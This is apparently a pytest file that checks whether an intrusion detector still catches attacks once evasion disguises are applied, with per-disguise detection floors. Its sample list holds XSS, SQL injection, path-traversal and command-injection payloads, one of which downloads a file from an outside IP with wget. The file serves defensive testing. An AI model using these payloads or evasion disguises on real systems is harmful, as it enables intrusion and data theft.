"""What an attack is disguised as, it stays: found attacks are found in disguise, and disguises that fit nothing prove nothing."""

from __future__ import annotations

import pytest

from bench.evasion import Sample, found_plain, measure, overall, own_samples, table
from bench.mutations import MUTATIONS
from tcpmirror.detect.detector import Detector

FLOOR = 97.0  # per cent of all pairs of attack and disguise
# Per cent found by disguises below the floor today: they can only rise.
WEAK = {
    "shell quotes inside": 93.0,
    "shell backslash": 93.0,
    "shell empty parameter": 93.0,
    "path backslashes": 91.0,
    "path backslash percent-encoded": 91.0,
    "path doubled": 75.0,
    "CSS escapes": 66.0,
}
# What the rules' examples show too seldom for some disguise.
MORE = [
    Sample("xss", b'<p style="x:expression(alert(1))">'),
    Sample("xss", b'<a href="javascript:alert(1)">x</a>'),
    Sample("xss", b"<svg onload=alert(document.domain)>"),
    Sample("sqli", b"1' UNION SELECT name FROM users WHERE role='admin'-- -"),
    Sample("sqli", b"-1 UNION SELECT password FROM accounts"),
    Sample("rce", b"127.0.0.1; cat /etc/passwd"),
    Sample("rce", b"x | wget http://203.0.113.9/a -O /tmp/a"),
    Sample("rce", b"`id`"),
    Sample("ptrav", b"../../../../etc/passwd"),
    Sample("ptrav", b"../../../windows/win.ini"),
]


def test_disguises_change_what_they_fit() -> None:
    fitted = {name for name, one in MUTATIONS.items() for sample in MORE if one.apply(sample.kind, sample.value)}
    others = {"attribute case", "header case", "line feed alone", "scheme case", "SQL CHAR()", "SQL 0x"}
    assert fitted | others == set(MUTATIONS)


@pytest.mark.slow
def test_found_attacks_are_found_in_disguise(detector: Detector) -> None:
    samples = [*own_samples(detector), *found_plain(detector, MORE)]
    assert len(samples) > 250
    tallies = measure(detector, samples)
    print(*table(tallies), sep="\n")
    assert overall(tallies).share >= FLOOR
    assert min(tally.tried for tally in tallies.values()) > 0
    below = {name: tally.share for name, tally in tallies.items() if tally.share < WEAK.get(name, FLOOR)}
    assert below == {}
